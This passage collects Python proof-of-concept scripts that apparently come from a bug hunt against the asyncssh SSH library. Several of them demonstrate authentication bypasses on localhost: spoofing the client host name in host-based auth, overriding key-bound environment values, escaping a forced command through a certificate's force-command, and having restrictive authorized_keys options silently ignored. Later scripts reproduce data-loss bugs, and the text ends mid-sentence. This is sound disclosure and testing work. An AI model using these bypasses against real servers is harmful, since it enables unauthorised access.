import asyncssh
import asyncssh.connection as sshconn

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15

granted = []        # (username, client_host, client_username) the app accepted


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return True

    def host_based_auth_supported(self):
        return True

    def validate_host_based_user(self, username, client_host, client_username):
        # shosts.equiv style policy: alice may only log in from hostA
        ok = (username, client_host, client_username) == \
            ('alice', 'hostA', 'alice')
        if ok:
            granted.append((username, client_host, client_username))
        return ok


# --- scripted attacker: choose the claimed client host per attempt ---------

_orig = sshconn.SSHClientConnection.host_based_auth_requested
CLAIMS = []      # client host names the attacker claims, one per attempt


async def _scripted(self):
    if not CLAIMS:
        return None, '', ''

    self._options.client_host = CLAIMS.pop(0)
    return await _orig(self)

sshconn.SSHClientConnection.host_based_auth_requested = _scripted


async def attempt(port, skey, kb, claims):
    options = asyncssh.SSHClientConnectionOptions(
        username='alice', known_hosts=None,
        client_host_keys=[kb] * len(claims), client_username='alice',
        client_host='unused', client_keys=None, password=None,
        preferred_auth='hostbased', agent_path=None)
    CLAIMS[:] = claims

    try:
        conn = await asyncio.wait_for(
            asyncssh.connect('127.0.0.1', port, options=options), TIMEOUT)
    except asyncssh.PermissionDenied:
        return False

    conn.close()
    await asyncio.wait_for(conn.wait_closed(), TIMEOUT)
    return True


async def main():
    skey = asyncssh.generate_private_key('ssh-ed25519')
    ka = asyncssh.generate_private_key('ssh-ed25519')
    kb = asyncssh.generate_private_key('ssh-ed25519')

    known = 'hostA %s\nhostB %s\n' % (
        ka.export_public_key().decode().strip(),
        kb.export_public_key().decode().strip())

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server, server_host_keys=[skey],
        known_client_hosts=asyncssh.import_known_hosts(known),
        trust_client_host=True, host_based_auth=True,
        public_key_auth=False, password_auth=False, kbdint_auth=False)

    port = server.sockets[0].getsockname()[1]

    control = await attempt(port, skey, kb, ['hostA'])
    print('control: claim hostA with hostB key          ->',
          'ACCEPTED' if control else 'refused')

    granted.clear()
    attack = await attempt(port, skey, kb, ['hostB', 'hostA'])
    print('attack : claim hostB, then hostA, hostB key  ->',
          'ACCEPTED' if attack else 'refused')

    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    if control:
        print('FAIL: the control request was accepted already')
        return 1

    if attack:
        print('FAIL: authenticated as %r although the only key presented is '
              "hostB's key, never authorised for hostA" % (granted,))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
