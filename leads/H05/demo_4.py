#!/usr/bin/env python
"""C05 demo 4: the environment="NAME=value" option of the accepted key is
overridden by an "env" request of the client.

SSHServerChannel.__init__() seeds the session environment from the
authorized_keys entry, and _process_env_request() afterwards does
self._env[key] = value for whatever the client sends. sshd does it the
other way round (client variables first, then the key's environment= on
top), so that the value attached to the key always wins.

Typical use: one shared account, every key line tagged with the identity it
belongs to (environment="GL_USER=bob"). With asyncssh bob just sends
env GL_USER=alice.

Exit status 0 = the key's value is what the session sees, 1 = violation.
"""

import asyncio
import sys

import asyncssh

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15


async def handler(process):
    process.stdout.write(process.env.get('GL_USER', '<unset>') + '\n')
    process.exit(0)


async def main():
    skey = asyncssh.generate_private_key('ssh-ed25519')
    bob = asyncssh.generate_private_key('ssh-ed25519')

    line = 'environment="GL_USER=bob" %s\n' % \
        bob.export_public_key().decode().strip()

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        authorized_client_keys=asyncssh.import_authorized_keys(line),
        process_factory=handler)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncio.wait_for(asyncssh.connect(
        '127.0.0.1', port, username='git', known_hosts=None,
        client_keys=[bob], agent_path=None), TIMEOUT)

    plain = (await asyncio.wait_for(conn.run('x'), TIMEOUT)).stdout.strip()
    forged = (await asyncio.wait_for(
        conn.run('x', env={'GL_USER': 'alice'}), TIMEOUT)).stdout.strip()

    conn.close()
    await asyncio.wait_for(conn.wait_closed(), TIMEOUT)
    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    print('key line: environment="GL_USER=bob"')
    print('session without env request sees GL_USER =', plain)
    print('session with env GL_USER=alice sees GL_USER =', forged)

    if plain != 'bob' or forged != 'bob':
        print('FAIL: the environment attached to the accepted key was '
              'replaced by a value chosen by the client')
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
