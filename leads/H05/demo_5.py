#!/usr/bin/env python
"""C05 demo 5: a certificate's force-command silently replaces the command=
of the cert-authority line that admitted it.

SSHServerChannel._start_session():
    forced_command = conn.get_certificate_option('force-command')
    if forced_command is None:
        forced_command = conn.get_key_option('command')

The server administrator wrote
    cert-authority,command="/usr/bin/backup-only" <CA key>
i.e. "whatever this CA signs may only run backup-only here". A certificate
from that CA that carries force-command="/bin/sh" runs /bin/sh: the
restriction attached to the accepted authorized_keys entry is dropped.
sshd refuses such a login ("forced command options do not match") - both
restrictions apply, and if they cannot both be met access is denied. The
other key/certificate option pairs (no-pty vs permit-pty, ...) are AND-ed by
asyncssh too; only the forced command is not.

Exit status 0 = the CA line's command is enforced (or login refused),
1 = violation shown.
"""

import asyncio
import sys

import asyncssh

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15


async def handler(process):
    process.stdout.write(process.command + '\n')
    process.exit(0)


async def main():
    skey = asyncssh.generate_private_key('ssh-ed25519')
    ca = asyncssh.generate_private_key('ssh-ed25519')
    ukey = asyncssh.generate_private_key('ssh-ed25519')

    cert = ca.generate_user_certificate(ukey, 'bob', principals=['bob'],
                                        force_command='/bin/sh')

    line = 'cert-authority,command="/usr/bin/backup-only" %s\n' % \
        ca.export_public_key().decode().strip()

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_host_keys=[skey],
        authorized_client_keys=asyncssh.import_authorized_keys(line),
        process_factory=handler)
    port = server.sockets[0].getsockname()[1]

    ran = None

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            '127.0.0.1', port, username='bob', known_hosts=None,
            client_keys=[(ukey, cert)], agent_path=None), TIMEOUT)
    except asyncssh.PermissionDenied:
        print('login refused (what sshd does)')
    else:
        ran = (await asyncio.wait_for(conn.run('anything'),
                                      TIMEOUT)).stdout.strip()
        conn.close()
        await asyncio.wait_for(conn.wait_closed(), TIMEOUT)

    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    print('authorized_keys: cert-authority,command="/usr/bin/backup-only"')
    print('certificate    : force-command="/bin/sh"')
    print('command run    :', ran)

    if ran is not None and ran != '/usr/bin/backup-only':
        print('FAIL: the command= restriction of the accepted cert-authority '
              'entry was not enforced')
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
