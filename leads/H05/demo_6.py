#!/usr/bin/env python
"""C05 demo 6 (client side, "a client presenting a valid credential is
admitted"): connect(password=...) loses the password to the
keyboard-interactive fallback and never tries the password method.

Server: offers keyboard-interactive (a one-time-code challenge whose prompt
is "One-time password:") and password. Either is sufficient. The client was
given the correct password for the password method and implements no
keyboard-interactive callbacks.

SSHClientConnection.kbdint_auth_requested() turns on the "send the password
via keyboard-interactive" fallback, kbdint_challenge_received() sees the word
"password" in the prompt and calls password_auth_requested(), which hands out
self._password AND sets it to None. The OTP check fails, and when the client
moves on to the password method password_auth_requested() has nothing left:
the valid password is never presented (and it was disclosed to a prompt that
did not ask for it).

Exit status 0 = client admitted, 1 = violation shown.
"""

import asyncio
import sys

import asyncssh

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15

seen = []


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return True

    def password_auth_supported(self):
        return True

    def validate_password(self, username, password):
        seen.append(('password', password))
        return (username, password) == ('alice', 'correct horse')

    def kbdint_auth_supported(self):
        return True

    def get_kbdint_challenge(self, username, lang, submethods):
        return '', '', '', [('One-time password: ', False)]

    def validate_kbdint_response(self, username, responses):
        seen.append(('keyboard-interactive', list(responses)))
        return list(responses) == ['492817']


async def main():
    skey = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[skey])
    port = server.sockets[0].getsockname()[1]

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            '127.0.0.1', port, username='alice', password='correct horse',
            known_hosts=None, client_keys=None, agent_path=None), TIMEOUT)
    except asyncssh.PermissionDenied as exc:
        admitted = False
        print('client:', exc.reason)
    else:
        admitted = True
        conn.close()
        await asyncio.wait_for(conn.wait_closed(), TIMEOUT)

    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    print('credential checks the server was asked to do:', seen)

    if not admitted:
        print('FAIL: the client holds the valid password for the offered '
              'password method but never presented it there')
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
