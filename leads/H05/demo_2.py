#!/usr/bin/env python
"""C05 demo 2: host-based auth with trust_client_host=False authorises the
host name the client CLAIMED, while the key was checked for the host the
connection really comes from.

Server: trust_client_host=False (default: "the client-provided hostname is
not trusted and is instead determined by doing a reverse lookup of the IP
address the client connected from"). known_client_hosts holds the key KL of
the machine the attacker really connects from (127.0.0.1 / localhost).
The application (validate_host_based_user, the place for .shosts style
rules) lets user alice in from host "trusted.example.com" only.

The attacker, coming from 127.0.0.1 with that machine's key KL, simply writes
client_host="trusted.example.com" into the request. The server looks KL up
under the reverse-resolved name (fine, it is trusted for localhost), merely
logs "Client host mismatch", and then asks the application about
"trusted.example.com" - the unverified string from the packet.

Exit status 0 = behaves as the property demands, 1 = violation shown.
"""

import asyncio
import sys

import asyncssh

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15

asked = []


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return True

    def host_based_auth_supported(self):
        return True

    def validate_host_based_user(self, username, client_host, client_username):
        asked.append(client_host)

        return (username, client_host, client_username) == \
            ('alice', 'trusted.example.com', 'alice')


async def main():
    skey = asyncssh.generate_private_key('ssh-ed25519')
    kl = asyncssh.generate_private_key('ssh-ed25519')

    # the only client host the server knows a key for is the local machine
    known = '127.0.0.1,::1,localhost,localhost.localdomain,ip6-localhost %s\n' \
        % kl.export_public_key().decode().strip()

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server, server_host_keys=[skey],
        known_client_hosts=asyncssh.import_known_hosts(known),
        trust_client_host=False, host_based_auth=True,
        public_key_auth=False, password_auth=False, kbdint_auth=False)

    port = server.sockets[0].getsockname()[1]

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            '127.0.0.1', port, username='alice', known_hosts=None,
            client_host_keys=[kl], client_host='trusted.example.com',
            client_username='alice', client_keys=None, password=None,
            preferred_auth='hostbased', agent_path=None), TIMEOUT)
    except asyncssh.PermissionDenied:
        accepted = False
    else:
        accepted = True
        conn.close()
        await asyncio.wait_for(conn.wait_closed(), TIMEOUT)

    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    print('application was asked about client host(s):', asked)
    print('connection from 127.0.0.1 claiming trusted.example.com ->',
          'ACCEPTED' if accepted else 'refused')

    if accepted or 'trusted.example.com' in asked:
        print('FAIL: with trust_client_host=False the authorisation decision '
              'was taken for the unverified name from the request; the key '
              'presented is only known for localhost')
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 60)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
