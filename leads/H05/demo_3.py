#!/usr/bin/env python
"""C05 demo 3: authorized_keys options that asyncssh does not recognise are
accepted and silently ignored, so the credential is admitted WITHOUT the
restriction that is attached to it.

_SSHAuthorizedKeyEntry._add_option() stores every unknown word as a
"non-standard option" and nothing ever looks at it again. That happens for

  * standard OpenSSH options which are not implemented:
        restrict              (= no pty, no forwarding of any kind, ...)
        expiry-time="..."     (key not valid after that date)
  * implemented options written in another case. sshd(8): "option keywords
    are case-insensitive", asyncssh compares them case-sensitively:
        From="10.0.0.1"   NO-PTY   No-Port-Forwarding   Command="..."

sshd refuses a key line whose options it cannot interpret; asyncssh lets the
key in with full privileges.

Exit status 0 = every restriction was enforced, 1 = violation shown.
"""

import asyncio
import sys

import asyncssh

assert asyncssh.__file__.startswith('/tmp/hunt_H05/'), asyncssh.__file__

TIMEOUT = 15


async def handler(process):
    process.stdout.write('cmd=%s term=%s\n' %
                         (process.command, process.term_type))
    process.exit(0)


class Server(asyncssh.SSHServer):
    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True


async def probe(optstr):
    """Log in with a key carrying the given options, report what we got"""

    skey = asyncssh.generate_private_key('ssh-ed25519')
    ckey = asyncssh.generate_private_key('ssh-ed25519')
    line = optstr + ' ' + ckey.export_public_key().decode().strip() + '\n'

    server = await asyncssh.listen(
        '127.0.0.1', 0, server_factory=Server, server_host_keys=[skey],
        authorized_client_keys=asyncssh.import_authorized_keys(line),
        process_factory=handler)
    port = server.sockets[0].getsockname()[1]

    async def greet(_reader, writer):
        writer.write(b'hi')
        writer.close()

    target = await asyncio.start_server(greet, '127.0.0.1', 0)
    tport = target.sockets[0].getsockname()[1]

    got = {'login': False, 'pty': False, 'forward': False, 'cmd': None}

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            '127.0.0.1', port, username='u', known_hosts=None,
            client_keys=[ckey], agent_path=None), TIMEOUT)
    except asyncssh.PermissionDenied:
        pass
    else:
        got['login'] = True

        try:
            result = await asyncio.wait_for(
                conn.run('id', term_type='xterm'), TIMEOUT)
            got['pty'] = 'term=xterm' in result.stdout
        except asyncssh.ChannelOpenError:
            pass

        try:
            result = await asyncio.wait_for(conn.run('id'), TIMEOUT)
            got['cmd'] = result.stdout.split()[0][4:]
        except asyncssh.ChannelOpenError:
            pass

        try:
            reader, writer = await asyncio.wait_for(
                conn.open_connection('127.0.0.1', tport), TIMEOUT)
            got['forward'] = \
                await asyncio.wait_for(reader.read(2), TIMEOUT) == b'hi'
            writer.close()
        except asyncssh.ChannelOpenError:
            pass

        conn.close()
        await asyncio.wait_for(conn.wait_closed(), TIMEOUT)

    target.close()
    server.close()
    await asyncio.wait_for(server.wait_closed(), TIMEOUT)

    return got


async def main():
    failures = []

    def check(optstr, got, what, bad):
        state = 'VIOLATED' if bad else 'enforced'
        print('%-34s %-34s %s' % (optstr, what, state))

        if bad:
            failures.append((optstr, what))

    # sanity: the lower-case spellings asyncssh knows about are enforced
    got = await probe('no-pty,no-port-forwarding')
    check('no-pty,no-port-forwarding', got, 'no pty, no direct-tcpip',
          got['pty'] or got['forward'])

    got = await probe('from="10.0.0.1"')
    check('from="10.0.0.1"', got, 'no login from 127.0.0.1', got['login'])

    # not implemented standard options
    got = await probe('expiry-time="20000101"')
    check('expiry-time="20000101"', got, 'expired key must be refused',
          got['login'])

    got = await probe('restrict')
    check('restrict', got, 'no pty', got['pty'])
    check('restrict', got, 'no direct-tcpip', got['forward'])

    # implemented options, other case (keywords are case-insensitive)
    got = await probe('From="10.0.0.1"')
    check('From="10.0.0.1"', got, 'no login from 127.0.0.1', got['login'])

    got = await probe('NO-PTY,No-Port-Forwarding')
    check('NO-PTY,No-Port-Forwarding', got, 'no pty', got['pty'])
    check('NO-PTY,No-Port-Forwarding', got, 'no direct-tcpip', got['forward'])

    got = await probe('Command="only-this"')
    check('Command="only-this"', got, 'forced command',
          got['cmd'] != 'only-this')

    if failures:
        print('FAIL: %d restriction(s) attached to the accepted key were '
              'not enforced' % len(failures))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 120)))
    except asyncio.TimeoutError:
        print('FAIL: timeout')
        sys.exit(2)
