"""Output received in full is thrown away, and an exit status reported without
it, when the peer closes the connection right after a short command.

Expected (property C19): whenever an exit status is reported for a command,
its complete stdout and stderr come with it -- for every ordering of data,
EOF, exit status, close (and connection loss) on the wire.

Observed: a server (think of an appliance that serves one command per
connection) answers an exec request and in the same breath sends the
command's output, the exit status, the channel close and the disconnect.
The client log shows 'Received 22 data bytes', 'Received exit status 0',
'Received channel close', 'Connection closed' -- everything arrived intact.
Yet conn.run() returns exit_status == 0 with stdout == ''.  The control run,
identical except that the server leaves the connection open, returns the
output.

Responsible code: asyncssh/channel.py SSHChannel.process_connection_close():

    if self._recv_paused != 'starting':
        while self._recv_buf: ... self._deliver_data(data, datatype)

Until the task created at the end of SSHClientChannel.create() has run
_start_reading(), incoming data is parked in the channel's _recv_buf
(_recv_paused == 'starting').  Commit e69e278 ("deliver channel data parked
by a paused session before connection-close cleanup") made connection
cleanup hand parked data to the session, but it left out exactly this
state, so there the data is still dropped while the exit status, which is
not parked, gets through.  (_open_forward() has the same window for
forwarded connections.)
"""

import asyncio
import sys

import asyncssh

OUTPUT = 'result of the command\n'


class OneShotSession(asyncssh.SSHServerSession):
    def __init__(self, disconnect):
        self._disconnect = disconnect

    def connection_made(self, chan):
        self._chan = chan

    def exec_requested(self, command):
        return True

    def session_started(self):
        self._chan.write(OUTPUT)
        self._chan.exit(0)

        if self._disconnect:
            # done with this client: sends MSG_DISCONNECT behind the close
            self._chan.get_connection().close()


class Server(asyncssh.SSHServer):
    disconnect = False

    def begin_auth(self, username):
        return False

    def session_requested(self):
        return OneShotSession(Server.disconnect)


async def run_once(port):
    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    try:
        return await asyncio.wait_for(conn.run('cmd'), 20)
    finally:
        conn.close()


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[key])
    port = server.get_port()

    Server.disconnect = False
    control = await run_once(port)
    print('server keeps connection open : exit_status=%r stdout=%r' %
          (control.exit_status, control.stdout))

    Server.disconnect = True
    result = await run_once(port)
    print('server disconnects afterwards: exit_status=%r stdout=%r' %
          (result.exit_status, result.stdout))

    server.close()

    if control.stdout != OUTPUT or control.exit_status != 0:
        print('demo problem: control run did not work')
        return 2

    if result.exit_status is not None and result.stdout != OUTPUT:
        print('BUG: exit status %r reported, but the output which was '
              'received ahead of it is missing' % result.exit_status)
        return 1
    else:
        print('OK')
        return 0


sys.exit(asyncio.run(main()))
