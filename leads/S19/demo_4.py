"""stderr=STDOUT loses the whole stderr output (or fails with "write to closed
file") when the output and EOF of the command are already there at the
moment the redirection is set up.

Expected (property C19): a redirection copies all data and then EOF, and
whenever an exit status is reported, the complete stdout and stderr come
with it -- however data, EOF, exit status and close are ordered in time
relative to the calls of the application.

Observed:

  A. conn.run(cmd, stdout=<pipe>, stderr=asyncssh.STDOUT) for a command
     which answers at once.  Setting up a pipe target takes a few turns of
     the event loop (connect_write_pipe), during which the output, EOF, exit
     status and close arrive and are buffered.  run() reports exit status 3,
     the pipe receives 'out line\\n' only; 'err line\\n' is silently gone
     (it is neither in the pipe nor in result.stderr).

  B. The same with the documented dynamic redirect on a process whose
     output has arrived: proc.redirect(stdout=<path>, stderr=STDOUT) raises
     ValueError('write to closed file'); the file holds stdout only.

Responsible code: asyncssh/process.py SSHProcess.feed_recv_buf() as used by
_create_writer() via SSHClientProcess.redirect():

    for buf in self._recv_buf[datatype]: writer.write(buf)
    ...
    if self._eof_received and self._recv_eof.get(datatype, True):
        writer.write_eof()

redirect() sets up stdout first; feed_recv_buf() replays the buffered stdout
data and, as EOF was already received, closes the target right away.  Only
then the stderr redirect is created, whose _StdoutWriter replays the
buffered stderr data into ... the stdout writer that has just been closed
(_PipeWriter: dropped by the closing transport; _FileWriter: ValueError;
_AsyncFileWriter/_StreamWriter: queued behind the end marker and never
written).  Live, eof_received() passes EOF on only after all data of both
streams has been delivered; the replay does not keep that order.
"""

import asyncio
import os
import sys
import tempfile

import asyncssh


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    process.stdout.write('out line\n')
    process.stderr.write('err line\n')
    process.exit(3)


async def read_pipe(fd):
    """Collect what arrives on the read end of a pipe within a second"""

    loop = asyncio.get_event_loop()
    reader = asyncio.StreamReader()
    transport, _ = await loop.connect_read_pipe(
        lambda: asyncio.StreamReaderProtocol(reader), os.fdopen(fd, 'rb'))

    data = b''

    try:
        while True:
            chunk = await asyncio.wait_for(reader.read(65536), 1)

            if not chunk:
                break

            data += chunk
    except asyncio.TimeoutError:
        pass

    transport.close()
    return data


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=handler)
    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')

    bad = False

    # --- A: run() with a pipe as target ---------------------------------
    rfd, wfd = os.pipe()
    result = await asyncio.wait_for(
        conn.run('cmd', stdout=wfd, stderr=asyncssh.STDOUT), 20)
    piped = await read_pipe(rfd)

    print('A: exit status %r, pipe received %r, result.stdout %r, '
          'result.stderr %r' % (result.exit_status, piped, result.stdout,
                                result.stderr))

    if sorted(piped.splitlines()) != [b'err line', b'out line']:
        print('A: BUG: stderr output is missing from the redirect target')
        bad = True

    # --- B: dynamic redirect after the output has arrived ----------------
    proc = await conn.create_process('cmd')
    await asyncio.sleep(0.5)

    path = tempfile.mktemp()

    try:
        await proc.redirect(stdout=path, stderr=asyncssh.STDOUT)
        result = await asyncio.wait_for(proc.wait(), 20)
        print('B: exit status %r' % result.exit_status)
    except Exception as exc:
        print('B: redirect() raised %r' % exc)
        bad = True

    with open(path, 'rb') as f:
        content = f.read()

    os.unlink(path)

    print('B: file holds %r' % content)

    if sorted(content.splitlines()) != [b'err line', b'out line']:
        print('B: BUG: stderr output is missing from the redirect target')
        bad = True

    conn.close()
    server.close()

    print('BUG shown' if bad else 'OK')
    return 1 if bad else 0


sys.exit(asyncio.run(main()))
