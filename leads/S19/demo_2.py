"""Server process redirection: EOF on the stdout source throws away whatever
the stderr source still has to deliver, and an exit status is reported with
the stderr output missing.

Expected (property C19): a redirection copies all data of its source and then
EOF; and whenever an exit status is reported for a command, its complete
stdout and stderr come with it.

Observed: an SSHServerProcess is redirected from the two pipes of a local
child process exactly as in examples/redirect_server.py (plus a drain() on
stderr).  The child writes 'out\\n' to stdout, 60000 bytes to stderr and
exits.  The client's run() gets exit status 0, stdout 'out\\n' and an EMPTY
stderr; on the server asyncio logs "BrokenPipeError: Channel not open for
sending" from _PipeReader.data_received().

Responsible code: asyncssh/process.py SSHProcess.feed_eof():

    if self._send_eof[datatype]:
        self._chan.write_eof()

EOF in SSH is a property of the whole channel, but feed_eof() sends it as
soon as the *first* of the redirected sources ends.  stdout's pipe is
registered first, so its EOF is processed first; after that every
feed_data() of the stderr reader ends in SSHChannel.write() raising
BrokenPipeError inside the pipe transport's read callback.  Nothing tells
the application: drain() on stderr returns normally.  The same happens for
any pair of sources (files, StreamReaders, SSHReaders) where the one on
stdout ends before the one on stderr has been copied.
"""

import asyncio
import logging
import subprocess
import sys

import asyncssh

STDERR_SIZE = 60000   # fits the pipe buffer, so the child can exit


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    child = subprocess.Popen(
        [sys.executable, '-c',
         'import sys; sys.stdout.write("out\\n"); sys.stdout.flush(); '
         'sys.stderr.write("E" * %d); sys.stderr.flush()' % STDERR_SIZE],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE)

    # Let the child finish first: everything it wrote is in the two pipes
    # now, so the outcome doesn't depend on any timing of the child.
    status = child.wait()

    await process.redirect(stdout=child.stdout, stderr=child.stderr)
    await process.stdout.drain()
    await process.stderr.drain()
    process.exit(status)


async def main():
    # collect asyncio's "Exception in callback" reports instead of
    # printing their tracebacks
    errors = []

    class Collect(logging.Handler):
        def emit(self, record):
            exc = record.exc_info[1] if record.exc_info else None
            errors.append('%s (%r)' % (record.getMessage().split('\n')[0],
                                       exc))

    logging.getLogger('asyncio').addHandler(Collect())
    logging.getLogger('asyncio').propagate = False

    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=handler)
    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')

    result = await asyncio.wait_for(conn.run('cmd'), 30)

    conn.close()
    server.close()

    print('exit status          : %r' % result.exit_status)
    print('stdout               : %r' % result.stdout)
    print('stderr bytes received: %d of %d' % (len(result.stderr),
                                               STDERR_SIZE))
    print('errors logged by asyncio on the server side: %d' % len(errors))

    if errors:
        print('  first: ' + errors[0])

    if result.exit_status == 0 and result.stdout == 'out\n' and \
            len(result.stderr) == STDERR_SIZE:
        print('OK: all redirected data arrived')
        return 0
    else:
        print('BUG: exit status reported, but the redirected stderr data '
              'was dropped after stdout reached EOF')
        return 1


sys.exit(asyncio.run(main()))
