"""readline()/readuntil() hand out a torn line while the *other* stream's
redirect target applies back-pressure.

Expected (property C19): SSHReader.readline() returns one line, i.e. the
data up to and including the first newline, however the data was chunked in
transit; a partial line is only documented for EOF (and, by design, when the
receive buffer is full of data without a separator).

Observed: the server sends 'x\\nabc', a burst of stderr packets, and a second
later 'def\\n'.  stderr of the client process is redirected to a (slow) async
file, stdout is read with readline().  The second readline() returns 'abc'
-- a line torn in the middle although no EOF was received and only 5 bytes
of a 2 MiB buffer are in use -- and the third returns 'def\\n'.

Responsible code: asyncssh/stream.py SSHStreamSession.readuntil():

    if (self._read_paused and buflen) or self._eof_received:
        ... raise IncompleteReadError(partial)

_read_paused is taken to mean "the receive buffer is full, no separator can
arrive any more".  But reading is also paused (SSHProcess._should_pause_
reading) whenever a redirect writer of any stream of the process has asked
pause_feeding() -- here the _AsyncFileWriter of stderr whose queue holds 16
items -- and likewise when the buffer limit was reached by unread data of the
other stream only.  Those pauses are transient and say nothing about this
stream.  Commit 335e9f6 ("don't return empty results from stream reads before
end-of-file") repaired only the sub-case where nothing at all is buffered on
the stream being read (buflen == 0); with a partial line buffered the read
still gives up.
"""

import asyncio
import sys

import asyncssh


class NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def handler(process):
    process.stdout.write('x\nabc')

    # each write is a packet of its own -> one queue item per packet in
    # the client's redirect writer, which pauses feeding at 16 items
    for i in range(40):
        process.stderr.write('e%03d\n' % i)
        await asyncio.sleep(0.005)

    await asyncio.sleep(1.0)
    process.stdout.write('def\n')
    process.exit(0)


class SlowAsyncFile:
    """An async file object (like aiofiles) on a slow medium"""

    def __init__(self):
        self.data = []

    async def write(self, data):
        await asyncio.sleep(0.05)
        self.data.append(data)

    async def close(self):
        pass


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=NoAuthServer,
                                   server_host_keys=[key],
                                   process_factory=handler)
    conn = await asyncssh.connect('127.0.0.1', server.get_port(),
                                  known_hosts=None, username='u')

    errfile = SlowAsyncFile()
    proc = await conn.create_process('cmd', stderr=errfile)

    line1 = await proc.stdout.readline()

    # the application works on the first line for a moment
    await asyncio.sleep(0.5)

    line2 = await proc.stdout.readline()
    eof_seen = proc.stdout.at_eof()
    line3 = await proc.stdout.readline()

    result = await proc.wait()
    conn.close()
    server.close()

    print('sent on stdout : %r then (1s later) %r' % ('x\nabc', 'def\n'))
    print('readline() #1  : %r' % line1)
    print('readline() #2  : %r   (at_eof: %s)' % (line2, eof_seen))
    print('readline() #3  : %r' % line3)
    print('stderr packets written to the redirect target: %d, exit status %r'
          % (len(errfile.data), result.exit_status))

    if line2 == 'abcdef\n':
        print('OK: readline() returned the whole line')
        return 0
    else:
        print('BUG: readline() returned a torn line %r without EOF and '
              'with an almost empty buffer' % line2)
        return 1


sys.exit(asyncio.run(main()))
