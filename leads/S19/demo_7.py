"""readuntil() with several separators splits the same byte stream differently
depending on where a packet boundary happens to fall, when one separator is
the beginning of another one (the classic case: '\\r\\n' and '\\r').

Expected (property C19): readuntil() returns the data up to and including the
first separator match, independent of how the data was chunked in transit --
for every separator, also several of them and also when a separator spans a
chunk boundary.

Observed: the server sends the 10 characters 'one\\r\\ntwo\\r\\n'; the client
reads records with readuntil(('\\r\\n', '\\r')) until EOF.

    sent as one packet           -> ['one\\r\\n', 'two\\r\\n']
    sent as 'one\\r' + '\\ntwo\\r\\n' -> ['one\\r', '\\ntwo\\r\\n']

With bulk output the boundary between two packets (32 KiB by default, or
wherever the window ran out) falls between a '\\r' and its '\\n' sooner or
later, so this is not a contrived split.

Responsible code: asyncssh/stream.py SSHStreamSession.readuntil():

    separators = bar.join(re.escape(sep) for sep in seplist)
    pat = re.compile(separators)
    ...
    match = pat.search(buf, start)
    if match: ... return buf[:match.end()]

The search is run on whatever has arrived and its first hit is final.  The
alternation prefers the separator listed first ('\\r\\n') when both start at
the same place, but when the buffer ends right behind the '\\r' only the
shorter one can match, and it is taken without waiting for the next
character, although a longer separator of which the match is a proper prefix
could still complete.  (Listing the separators the other way round makes the
